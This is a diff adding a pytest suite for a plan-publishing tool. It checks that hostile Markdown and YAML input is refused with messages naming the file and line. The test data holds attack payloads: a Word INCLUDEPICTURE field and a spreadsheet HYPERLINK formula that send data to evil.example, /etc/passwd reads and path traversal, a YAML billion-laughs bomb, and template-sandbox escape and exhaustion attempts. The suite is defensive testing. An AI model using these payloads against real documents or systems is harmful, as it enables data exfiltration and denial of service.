@@ -1,0 +1,558 @@
+"""Safe to publish: hostile or careless content ends in a message naming its file and line, never in a
+traceback, a hang, a change to what the plan says, or code of its own in the documents and workbook.
+
+Each test writes its own input into a private copy of an example plan (the repository's content/ on
+the bcf-2014 pack, or examples/bcf-2026) and runs the command an author would.
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+import struct
+import subprocess
+import sys
+import time
+import zipfile
+import zlib
+from pathlib import Path
+
+import openpyxl
+import pytest
+from lxml import etree
+from pypdf import PdfReader
+
+from conftest import REPO, copy_project, run_cli
+from plan_edits import edit, expect, line_of, reported
+
+SECTION = "content/sections/02-vision.md"
+RISKS = "content/data/risks.yaml"
+FINANCE = "content/data/finance.yaml"
+PLAN = "content/plan.yaml"
+
+
+def append(project: Path, file: str, text: str) -> int:
+    """Add `text` at the end of a content file; return the line its first line lands on."""
+    path = project / file
+    old = path.read_text(encoding="utf-8")
+    path.write_text(old + text, encoding="utf-8")
+    return old.count("\n") + 1
+
+
+def png(width: int = 8, height: int = 4) -> bytes:
+    """A small valid PNG (red), written by hand so the test needs no imaging library."""
+    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
+            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))
+
+
+def no_traceback(run) -> None:
+    assert "Traceback" not in run.out + run.err, run.out + run.err
+
+
+# --- 1. Documents: no raw blocks, no Word fields ----------------------------------------------
+
+
+def test_raw_blocks_and_raw_inlines_are_reported_at_their_lines(project: Path) -> None:
+    first = append(project, SECTION, "\n\nA field: `<w:fldSimple/>`{=openxml} in a sentence.\n\n"
+                                     "```{=typst}\n#read(\"plan.md\")\n```\n\n"
+                                     "And `<b>x</b>`{=html}, then:\n\n"
+                                     "~~~ {=latex}\n\\input{/etc/passwd}\n~~~\n\n"
+                                     "```\n```{=typst} inside a plain code block is only text\n```\n")
+    run = run_cli(project, "check")
+    for offset, code in ((2, "Raw openxml code (`...`{=openxml})"), (4, "Raw typst code (```{=typst})"),
+                         (8, "Raw html code (`...`{=html})"), (10, "Raw latex code (```{=latex})")):
+        expect(run, f"{SECTION}:{first + offset}: {code} cannot go into the plan. It would go into the Word "
+                    "and PDF documents as code of its own, which author text may not do. Write ordinary Markdown "
+                    "instead; to show code as text, use a code block with nothing after its opening ``` (or a "
+                    "`code span` with nothing after it).")
+    assert not [line for line in reported(run) if f"{SECTION}:{first + 15}:" in line], reported(run)
+
+
+def test_a_raw_block_in_a_data_field_is_reported(project: Path) -> None:
+    line = edit(project, RISKS, "    lead: Chief Finance Officer, NHS Harrowdale CCG",
+                '    lead: "Chief Finance Officer `x`{=openxml}"')
+    run = run_cli(project, "check")
+    expect(run, f"{RISKS}:{line}: Raw openxml code (`...`{{=openxml}}) cannot go into the plan. It would go into "
+                "the Word and PDF documents as code of its own, which author text may not do. Write ordinary "
+                "Markdown instead; to show code as text, use a code block with nothing after its opening ``` "
+                "(or a `code span` with nothing after it).")
+
+
+def test_a_raw_block_stops_the_build_and_leaves_output_alone(project: Path) -> None:
+    (project / "output").mkdir()
+    (project / "output" / "keep.txt").write_text("the last build", encoding="utf-8")
+    append(project, SECTION, "\n\n```{=openxml}\n<w:p/>\n```\n")
+    run = run_cli(project, "documents")
+    assert run.code == 1
+    no_traceback(run)
+    assert "Raw openxml code" in run.out + run.err
+    assert [p.name for p in (project / "output").iterdir()] == ["keep.txt"]
+
+
+W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+HOSTILE_WORD = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
+                ' INCLUDEPICTURE "https://evil.example/x.png" \\d </w:instrText></w:r>'
+                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+
+
+def test_even_unchecked_raw_blocks_never_reach_word_or_typst(project: Path, tmp_path: Path) -> None:
+    """Build the documents straight from the content, as if `check` had been skipped: the raw blocks are
+    shown as text, never run (no Word field, and Typst reads no file of the build)."""
+    from planpress.load.content import load_content
+    from planpress.render.prose import render_prose
+    from planpress.targets.document import _facts, write_word_and_pdf
+    from planpress.targets.documents.markdown import render_plan_markdown
+
+    append(project, SECTION, f"\n\n```{{=openxml}}\n{HOSTILE_WORD}\n```\n\nInline `{HOSTILE_WORD}`{{=openxml}}.\n\n"
+                             "```{=typst}\n#read(\"plan.md\")\n```\n\nAnd `#read(\"plan.typ\")`{=typst}.\n")
+    content, findings = load_content(project)
+    content, _ = render_prose(content)
+    document = render_plan_markdown(content, draft=True)
+    docx, pdf = tmp_path / "plan.docx", tmp_path / "plan.pdf"
+    write_word_and_pdf(content, document, _facts(content, document), docx, pdf)
+
+    xml = zipfile.ZipFile(docx).read("word/document.xml")
+    fields = etree.fromstring(xml).iter(f"{{{W}}}instrText", f"{{{W}}}fldSimple")
+    assert not [f for f in fields if "INCLUDEPICTURE" in (f.text or "") + f.get(f"{{{W}}}instr", "")], \
+        "an author's Word field reached the document"
+    xml = xml.decode("utf-8")
+    assert "&lt;w:instrText&gt;" in xml  # shown as code, as written
+    text = " ".join(page.extract_text() for page in PdfReader(str(pdf)).pages)
+    assert "link-anchors" not in text, "Typst read the build's plan.md into the PDF"
+    assert "#read" in text  # shown as code, as written
+
+
+def test_the_packs_do_not_rely_on_raw_attributes() -> None:
+    """The reader has no raw attributes; a pack says what it means with a class on a div, and its
+    filters.lua writes the raw code (page breaks, contents, landscape pages)."""
+    users = [str(p.relative_to(REPO)) for p in (REPO / "templates").rglob("*")
+             if p.is_file() and p.suffix in (".j2", ".md") and "{=" in p.read_text(encoding="utf-8")]
+    assert users == []
+
+
+# --- 2. Pictures -------------------------------------------------------------------------------
+
+
+def test_a_picture_must_be_a_file_inside_content(project: Path, tmp_path: Path) -> None:
+    (project / "content" / "images").mkdir()
+    (project / "content" / "images" / "fake.png").write_text("not a picture", encoding="utf-8")
+    outside = tmp_path / "secret.png"
+    outside.write_bytes(png())
+    (project / "content" / "images" / "link.png").symlink_to(outside)
+    first = append(project, SECTION, "\n\n![web](https://evil.example/x.png)\n\n![abs](/etc/passwd)\n\n"
+                                     "![up](../../../secret.png)\n\n![missing](../images/none.png)\n\n"
+                                     "![fake](../images/fake.png)\n\n![link](../images/link.png)\n\n"
+                                     "![data](data:image/png;base64,AAAA)\n\n![ref][logo]\n\n"
+                                     "[logo]: file:///etc/passwd\n")
+    run = run_cli(project, "check")
+    hint = ("Put the picture in content/ (such as content/images/map.png), as a PNG, JPEG or GIF file, and write "
+            "its path from this file, such as ![Map of the area](../images/map.png).")
+    for offset, text in (
+            (2, "'https://evil.example/x.png' is an address on the web (or a data: address), not a file in the plan"),
+            (4, "'/etc/passwd' is an absolute path, not a file in the plan"),
+            (6, "'../../../secret.png' leads out of content/ (with '..'): a picture must be a file inside content/"),
+            (8, "'../images/none.png' is not there: there is no file content/images/none.png"),
+            (10, "'../images/fake.png' is not the picture its name says: content/images/fake.png does not hold a "
+                 "PNG file"),
+            (12, "'../images/link.png' is a link (symlink) to a file outside content/, so it is not shown "
+                 "(content/images/link.png)"),
+            (14, "'data:image/png;base64,AAAA' is an address on the web (or a data: address), not a file in the "
+                 "plan"),
+            (18, "'file:///etc/passwd' is an address on the web (or a data: address), not a file in the plan")):
+        expect(run, f"{SECTION}:{first + offset}: The picture {text}. {hint}")
+
+
+def test_a_picture_in_a_data_field_is_refused(project: Path) -> None:
+    line = edit(project, RISKS, "    lead: Chief Finance Officer, NHS Harrowdale CCG",
+                '    lead: "![x](https://evil.example/track.png)"')
+    run = run_cli(project, "check")
+    expect(run, f"{RISKS}:{line}: A picture (![...](...)) cannot go in a field of a data file. Show pictures in a "
+                "section's or an item's Markdown text, where the README shows how; in a field, describe it or "
+                "link to it.")
+
+
+def test_a_picture_inside_content_reaches_the_word_and_pdf_documents(project: Path) -> None:
+    picture = png(16, 8)
+    (project / "content" / "images").mkdir()
+    (project / "content" / "images" / "map of the area.png").write_bytes(picture)
+    append(project, SECTION, "\n\n![A map of the area](<../images/map of the area.png>)\n")
+    run = run_cli(project, "documents")
+    assert run.code == 0, run.out + run.err
+    with zipfile.ZipFile(project / "output" / "harrowdale-bcf-plan.docx") as docx:
+        media = [docx.read(name) for name in docx.namelist() if name.startswith("word/media/")]
+    assert picture in media
+    pages = PdfReader(str(project / "output" / "harrowdale-bcf-plan.pdf")).pages
+    assert sum(len(page.images) for page in pages) == 1
+
+
+# --- 3. The workbook: text is never a formula ----------------------------------------------------
+
+FORMULA_LIKE = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "=1+1"]
+
+
+@pytest.fixture(scope="module")
+def hostile_workbook(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The workbook of a plan whose risk leads and funding sources are written like formulas."""
+    project = copy_project(tmp_path_factory.mktemp("workbook") / "plan")
+    places = [(RISKS, "    lead: Chief Finance Officer, NHS Harrowdale CCG"),
+              (RISKS, "    lead: Director of Adult Social Care, Harrowdale Borough Council"),
+              (FINANCE, "  - source: Disabled Facilities Grant"),
+              (FINANCE, "  - source: Social care capital grant"),
+              (FINANCE, '  - source: "Harrowdale CCG: additional contribution"')]
+    for (file, old), text in zip(places, FORMULA_LIKE):
+        quoted = text.replace("\\", "\\\\").replace('"', '\\"')
+        edit(project, file, old, old.split(":")[0] + f': "{quoted}"')
+    run = run_cli(project, "workbook")
+    assert run.code == 0, run.out + run.err
+    return next((project / "output").glob("*.xlsx"))
+
+
+def _written(path: Path, data_only: bool = False) -> dict[str, list]:
+    book = openpyxl.load_workbook(path, data_only=data_only)
+    return {sheet.title: [cell for row in sheet.iter_rows() for cell in row] for sheet in book}
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text(hostile_workbook: Path) -> None:
+    cells = [cell for sheet in _written(hostile_workbook).values() for cell in sheet]
+    placed = [text for text in FORMULA_LIKE if any(cell.value == text for cell in cells)]
+    assert placed == FORMULA_LIKE, f"not every text reached the workbook: {placed}"
+    for cell in cells:
+        if cell.value in FORMULA_LIKE:
+            assert cell.data_type == "s", f"{cell.coordinate}: {cell.value!r} was written as a formula"
+    formulas = [cell for cell in cells if cell.data_type == "f"]
+    assert formulas, "the pack's own formulas (totals, risk factors) must stay formulas"
+    assert all(cell.value not in FORMULA_LIKE for cell in formulas)
+
+
+def test_libreoffice_keeps_that_text_as_text(hostile_workbook: Path, tmp_path: Path) -> None:
+    soffice = shutil.which("soffice") or shutil.which("libreoffice")
+    assert soffice, "LibreOffice is needed: run `make test` as root, or install libreoffice-calc"
+    result = subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
+                             "--convert-to", "xlsx", "--outdir", str(tmp_path / "out"), str(hostile_workbook)],
+                            capture_output=True, text=True, timeout=300)
+    assert result.returncode == 0, result.stderr
+    recalculated = _written(tmp_path / "out" / hostile_workbook.name, data_only=True)
+    before = _written(hostile_workbook)
+    for sheet, cells in before.items():
+        after = {cell.coordinate: cell.value for cell in recalculated[sheet]}
+        for cell in cells:
+            if cell.value in FORMULA_LIKE:
+                assert after[cell.coordinate] == cell.value, f"{sheet}!{cell.coordinate} became {after[cell.coordinate]!r}"
+            elif cell.data_type == "f" and cell.value.startswith("=SUM("):
+                assert isinstance(after[cell.coordinate], (int, float)), "a total was not worked out"
+
+
+# --- 4. Loading limits --------------------------------------------------------------------------
+
+
+def test_a_content_file_linked_from_outside_the_plan_is_refused(project: Path, tmp_path: Path) -> None:
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    for file in (RISKS, SECTION, "content/progress/2014-q3.yaml"):
+        target = elsewhere / Path(file).name
+        shutil.copy(project / file, target)
+        (project / file).unlink()
+        (project / file).symlink_to(target)
+    run = run_cli(project, "check")
+    for file in (RISKS, SECTION, "content/progress/2014-q3.yaml"):
+        expect(run, f"{file}: This file is a link (symlink) to a file outside the plan's folder, so it is not "
+                    "read. Copy the file into the plan's folder in place of the link, so that what is published "
+                    "is what the plan holds.")
+
+
+def test_a_link_inside_the_plans_folder_is_read(project: Path) -> None:
+    shutil.move(project / RISKS, project / "risks-master.yaml")
+    (project / RISKS).symlink_to(Path("../../risks-master.yaml"))
+    run = run_cli(project, "check")
+    assert run.code == 0, run.out + run.err
+
+
+def test_a_file_too_large_is_refused_with_the_limit(project: Path) -> None:
+    append(project, SECTION, "\n" + ("Padding that makes the section far longer than any plan needs. " * 16 + "\n")
+           * 2100)
+    run = run_cli(project, "check")
+    expect(run, f"{SECTION}: This file is 2.1 MB, more than the 2 MB a content file may be. Split it: move some of "
+                "the text into another section or item's file, or into a document the plan links to "
+                "(content/data/documents.yaml), and keep data files to the figures the plan needs.")
+
+
+BILLION_LAUGHS = "lol0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
+    f"lol{n}: &a{n} [*a{n - 1}, *a{n - 1}, *a{n - 1}, *a{n - 1}, *a{n - 1}, *a{n - 1}, *a{n - 1}, *a{n - 1}, *a{n - 1}]\n"
+    for n in range(1, 10))
+
+
+def test_yaml_aliases_cannot_expand_without_bound(project: Path) -> None:
+    first = append(project, RISKS, "\n" + BILLION_LAUGHS)
+    started = time.monotonic()
+    run = run_cli(project, "check")
+    assert time.monotonic() - started < 30
+    message = ("This file holds more than 100,000 values (counting each use of an alias such as *name in full), "
+               "more than a content file may. Split the content: keep in this file only the figures the plan "
+               "needs, and write out once what an alias repeats.")
+    assert run.code == 1
+    no_traceback(run)
+    assert [f"{RISKS}:{line}: {message}" for line in range(first + 1, first + 11)
+            if f"{RISKS}:{line}: {message}" in reported(run)], reported(run)
+
+
+@pytest.mark.parametrize("text", ["deep: " + "[" * 20_000 + "]" * 20_000, "deep: " + "[" * 1_000_000,
+                                  "deep:\n" + "".join(" " * (n + 1) + "- \n" for n in range(1_000)), "loop: &a [*a]"])
+def test_yaml_nested_too_deep_is_refused(project: Path, text: str) -> None:
+    """20,000 levels gave a RecursionError; a million crashed libyaml; an alias can hold itself."""
+    first = append(project, RISKS, "\n" + text + "\n")
+    run = run_cli(project, "check")
+    assert run.code == 1
+    no_traceback(run)
+    found = [line for line in reported(run) if "nested more than 50 levels deep" in line]
+    assert found and found[0].startswith(f"{RISKS}:"), run.out
+    assert int(found[0].split(":")[1]) in range(first, first + 60)
+
+
+def test_a_list_too_long_is_refused(project: Path) -> None:
+    line = append(project, RISKS, "\nextra: [" + ", ".join(["x"] * 2_001) + "]\n")
+    run = run_cli(project, "check")
+    expect(run, f"{RISKS}:{line + 1}: This list holds 2,001 items, more than the 2,000 a list in a content file may "
+                "hold. Keep the list to the items the plan reports: join lines that say the same thing (such as "
+                "the same scheme, provider and area of spend), or move detail into a document the plan links to.")
+
+
+@pytest.mark.parametrize("text,deepest", [
+    ("\n".join("  " * n + "- item" for n in range(1_000)), ", 1000 levels at the deepest (line {})"),
+    ("- " * 2_000 + "item", ""),
+    ("> " * 2_000 + "quoted", ""),
+])
+def test_markdown_nested_too_deep_is_refused_at_once(project: Path, text: str, deepest: str) -> None:
+    """A list 2,000 levels deep took minutes to build (Typst then refused it with no file or line)."""
+    first = append(project, SECTION, "\n\n" + text + "\n")
+    started = time.monotonic()
+    run = run_cli(project, "documents")
+    assert time.monotonic() - started < 30
+    at = first + 2 + (12 if deepest else 0)
+    expect(run, f"{SECTION}:{at}: The lists and quotes here are nested more than 12 levels deep"
+                f"{deepest.format(first + 2 + 999)}, more than the documents can show (counting each '>', each list "
+                "marker and every two spaces of indentation before them). Flatten them: start a new list, or a new "
+                "paragraph, where the nesting goes deeper than a reader can follow.")
+
+
+def test_markdown_nested_within_the_limit_builds(project: Path) -> None:
+    append(project, SECTION, "\n\n" + "\n".join("  " * n + "- item" for n in range(12)) + "\n\n"
+           + "> " * 6 + "- - quoted\n")
+    run = run_cli(project, "documents")
+    assert run.code == 0, run.out + run.err
+
+
+def test_too_many_files_in_a_folder_is_refused_at_once(project: Path) -> None:
+    scheme = (project / "content/schemes/PE1.md").read_text(encoding="utf-8")
+    for n in range(300):
+        (project / f"content/schemes/ZZ{n}.md").write_text(scheme, encoding="utf-8")
+    started = time.monotonic()
+    run = run_cli(project, "check")
+    assert time.monotonic() - started < 30
+    expect(run, "content/schemes: This folder holds 313 files, more than the 300 a plan may have in one folder, so "
+                "none of them was read. Keep one file for each section, item or quarter the plan has, and move any "
+                "others (old drafts, copies) out of content/.")
+    assert len([line for line in reported(run)]) == 1, reported(run)
+
+
+def test_finishing_the_word_file_takes_time_in_proportion_to_it() -> None:
+    """Each table asked which section it is in by reading the rest of the body: minutes for a long plan."""
+    from docx import Document
+
+    from planpress.targets.documents.docx import _tables
+
+    doc = Document()
+    for n in range(1_500):
+        doc.add_paragraph(f"Paragraph {n}")
+        doc.add_table(rows=2, cols=3)
+    started = time.monotonic()
+    _tables(doc)
+    assert time.monotonic() - started < 10
+
+
+# --- 5. Numbers ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("value", [".inf", "-.inf", ".nan", "1.0e+400", "-1.0e+400"])
+@pytest.mark.parametrize("file,old,name,expected", [
+    (FINANCE, '"£3,654,000"', "2014/15", "a well-formed sum of money, such as 1250000 or \"£1,250,000\""),
+    (RISKS, "likelihood: 3", "likelihood", "a number (not infinite, and not .nan)"),
+    ("content/data/metrics.yaml", "value: 712.4", "value", "a number (not infinite, and not .nan)"),
+])
+def test_infinite_and_not_a_number_are_refused(project: Path, value: str, file: str, old: str, name: str,
+                                               expected: str) -> None:
+    line = edit(project, file, old, old.split(":")[0] + f": {value}" if ":" in old else value)
+    run = run_cli(project, "check")
+    assert run.code == 1
+    no_traceback(run)
+    found = [x for x in reported(run) if x.startswith(f"{file}:{line}: '{name}' should be ")]
+    assert found, reported(run)
+    assert expected in found[0] or "whole number" in found[0]
+
+
+@pytest.mark.parametrize("file,old,new,expected", [
+    (FINANCE, '"£3,654,000"', '"£1,000,000,000,000,000"',
+     "'2014/15' should be a sum of money less than £1,000,000,000,000 (this one is too large to be right)"),
+    (RISKS, "likelihood: 3", "likelihood: 100000000000000000000",
+     "'likelihood' should be a whole number less than 1,000,000,000,000,000 (this one is too large to be right)"),
+])
+def test_numbers_too_large_to_be_right_are_refused(project: Path, file: str, old: str, new: str,
+                                                   expected: str) -> None:
+    line = edit(project, file, old, new)
+    run = run_cli(project, "check")
+    assert run.code == 1
+    assert any(x.startswith(f"{file}:{line}: {expected}") for x in reported(run)), reported(run)
+
+
+# --- 6. The prose sandbox -----------------------------------------------------------------------
+
+
+def test_an_expression_cannot_change_a_figure(project: Path) -> None:
+    line = append(project, SECTION, "\n\n{{ scheme.PE2.update({'name': 'Changed by the text'}) }}"
+                                    "{{ years.append('2099/00') }}\n")
+    (project / "content/schemes/PE3.md").write_text(
+        (project / "content/schemes/PE3.md").read_text(encoding="utf-8") + "\n\nQuoted: {{ scheme.PE2.name }}.\n",
+        encoding="utf-8")
+    run = run_cli(project, "check")
+    expect(run, f"{SECTION}:{line + 2}: The text asks for something an author cannot use: access to attribute "
+                "'update' of 'dict' object is unsafe. Use only the names of the plan's figures listed in the "
+                "README, and the filters money, number, percent and long_date; a figure cannot be changed from "
+                "the text.")
+
+
+def test_the_figures_stay_as_they_are_for_the_other_texts(project: Path) -> None:
+    from planpress.load.content import load_content
+    from planpress.render.prose import render_prose
+
+    append(project, SECTION, "\n\n{{ scheme.PE2.update({'name': 'Changed'}) }}\n")
+    (project / "content/schemes/PE3.md").write_text(
+        (project / "content/schemes/PE3.md").read_text(encoding="utf-8") + "\n\nQuoted: {{ scheme.PE2.name }}.\n",
+        encoding="utf-8")
+    content, _ = render_prose(load_content(project)[0])
+    pe3 = next(doc for doc in content.schemes if doc.meta.reference == "PE3")
+    text = pe3.intro + "".join(part.markdown for part in pe3.parts)
+    assert "Quoted: Falls prevention service." in text
+
+
+@pytest.mark.parametrize("expression,message", [
+    ("{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}",
+     "range() in the text counts 100,000 numbers, more than the 1,000 author text may"),
+    ("{% for i in range(1000) %}{% for j in range(1000) %}{% for k in range(1000) %}{% endfor %}{% endfor %}"
+     "{% endfor %}", "Working out the figures in this text takes longer than 2 seconds"),
+    ("{{ 'x' * 1000000000 }}", "An expression in the text makes text or a value of more than 2,000,000 characters"),
+    ("{% set l = [1,1,1,1,1,1,1,1,1,1] %}" + "{% set l = [l,l,l,l,l,l,l,l,l,l] %}" * 12 + "{{ l }}",
+     "An expression in the text makes text or a value of more than 2,000,000 characters"),
+    ("{% macro f(n) %}{% if n %}{{ f(n-1) }}{{ f(n-1) }}{% endif %}{% endmacro %}{{ f(60) }}",
+     "Working out the figures in this text takes longer than 2 seconds"),
+    ("{{ '{:>1000000000}'.format(1) }}", "The text asks for something an author cannot use"),
+    ("{{ 'x' | center(1000000000) }}", "This expression cannot be read: No filter named 'center'"),
+])
+def test_an_expression_runs_within_limits(project: Path, expression: str, message: str) -> None:
+    line = append(project, SECTION, "\n\n" + expression + "\n")
+    started = time.monotonic()
+    run = run_cli(project, "check")
+    assert time.monotonic() - started < 30
+    assert run.code == 1
+    no_traceback(run)
+    assert any(x.startswith(f"{SECTION}:{line + 2}: {message}") for x in reported(run)), reported(run)
+
+
+# --- 7. The command line ------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("port", ["99999", "0", "-1", "eighty", "65536"])
+def test_serve_refuses_a_port_that_is_not_one(project: Path, port: str) -> None:
+    run = run_cli(project, "serve", f"--port={port}")
+    assert run.code == 2
+    no_traceback(run)
+    assert f"argument --port: '{port}' is not a port: give a whole number from 1 to 65535, such as 8000" in run.err
+
+
+# --- 8. Other hostile input ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("old,new,expected", [
+    ("start: 2014-04-01", "start: 2014-02-30",
+     "'2014-02-30' is not a date that exists (day is out of range for month). Write a real date as YYYY-MM-DD, "
+     "such as 2025-09-30."),
+    ("start: 2014-04-01", "start: 0000-04-01",
+     "'0000-04-01' is not a date that exists (year 0 is out of range). Write a real date as YYYY-MM-DD, such as "
+     "2025-09-30."),
+    ("start: 2014-04-01", "start: !!int abc",
+     "'abc' cannot be read as !!int (invalid literal for int() with base 10: 'abc'). Correct the value, or remove "
+     "the tag !!int and write the value plainly."),
+    ("area: Harrowdale", 'area: "Harrow\\x00dale"',
+     "This line holds an invisible control character (0x0000), which no document, spreadsheet or web page can "
+     "hold. Delete it: it usually comes pasted in with other text, or from an escape such as \\x01 or \\u0000 in "
+     "double quotes."),
+    ("template: bcf-2014", "template: ../../somewhere/else",
+     "'template' should be the name of a template pack, not '../../somewhere/else'. Name a pack in templates/ (a "
+     "plain name, with no '/' or '..'): one of bcf-2014, bcf-2025, bcf-2026, system-strategy."),
+    ("end: 2016-03-31", "end: 2013-03-31",
+     "'end' should be a date after the start (2014-04-01), not '2013-03-31'. Last day of the plan, such as "
+     "2017-03-31."),
+    ("end: 2016-03-31", "end: 2099-03-31",
+     "'end' should be a date at most 20 years after the start (2014-04-01): a plan's period is a few years, not "
+     "'2099-03-31'. Last day of the plan, such as 2017-03-31."),
+])
+def test_odd_values_in_yaml_are_findings(project: Path, old: str, new: str, expected: str) -> None:
+    line = edit(project, PLAN, old, new)
+    run = run_cli(project, "check")
+    expect(run, f"{PLAN}:{line}: {expected}")
+
+
+def test_a_control_character_in_markdown_is_refused(project: Path) -> None:
+    line = append(project, SECTION, "\n\nA bell \x07 rings.\n")
+    run = run_cli(project, "check")
+    expect(run, f"{SECTION}:{line + 2}: This line holds an invisible control character (0x0007), which no document, "
+                "spreadsheet or web page can hold. Delete it: it usually comes pasted in with other text, or from "
+                "an escape such as \\x01 or \\u0000 in double quotes.")
+
+
+def test_a_quarter_outside_any_plan_is_a_finding(project: Path) -> None:
+    shutil.copy(project / "content/progress/2014-q3.yaml", project / "content/progress/9999-q4.yaml")
+    run = run_cli(project, "check")
+    expect(run, "content/progress/9999-q4.yaml: '9999-q4.yaml' is not named after a quarter. Name a progress file "
+                "<year>-q<N>.yaml, such as 2025-q3.yaml for October to December 2025 (quarter 3 of 2025/26).")
+
+
+def test_a_folder_named_like_a_content_file_is_a_finding(project: Path) -> None:
+    (project / "content/schemes/ZZ9.md").mkdir()
+    run = run_cli(project, "check")
+    expect(run, "content/schemes/ZZ9.md: This is a folder or a special file, not a file of text. Move it out of "
+                "content/, or rename it so that it does not end like a content file.")
+
+
+def test_a_long_area_name_still_makes_file_names(project: Path) -> None:
+    edit(project, PLAN, "area: Harrowdale", "area: " + "Harrowdale " * 40)
+    run = run_cli(project, "data")
+    assert run.code == 0, run.out + run.err
+    (written,) = list((project / "output").glob("*.json"))
+    assert len(written.name) < 100
+
+
+def test_quotes_and_backslashes_in_the_boards_name_build_the_pdf(tmp_path: Path) -> None:
+    project = tmp_path / "plan"
+    shutil.copytree(REPO / "examples" / "bcf-2026", project, ignore=shutil.ignore_patterns("output", ".output-*"))
+    edit(project, PLAN, "hwb: Kestrelford Health and Wellbeing Board",
+         'hwb: "Kestrelford <b>\\" \\\\ ] #read(\\"plan.md\\") Board"')
+    run = run_cli(project, "documents")
+    assert run.code == 0, run.out + run.err
+    text = " ".join(page.extract_text() for page in PdfReader(str(project / "output/kestrelford-bcf-plan.pdf")).pages)
+    assert "link-anchors" not in text
+
+
+def test_a_character_the_pdf_cannot_show_is_named_before_the_build(project: Path) -> None:
+    """PDF/UA-1 refuses text its fonts cannot show; typst said so with no file or line."""
+    line = append(project, SECTION, "\n\nA private character \U0010fffd and an unassigned \u0378 here.\n")
+    run = run_cli(project, "check")
+    hint = ("Write it another way (a plain letter, a word or a symbol the fonts have) or leave it out: an accessible "
+            "PDF must be able to show every character it holds.")
+    expect(run, f"{SECTION}:{line + 2}: The PDF's fonts cannot show the character '\U0010fffd' (U+10FFFD, a "
+                f"private-use character), so the PDF cannot be made. {hint}")
+    expect(run, f"{SECTION}:{line + 2}: The PDF's fonts cannot show the character '\u0378' (U+0378, not a character "
+                f"Unicode assigns), so the PDF cannot be made. {hint}")
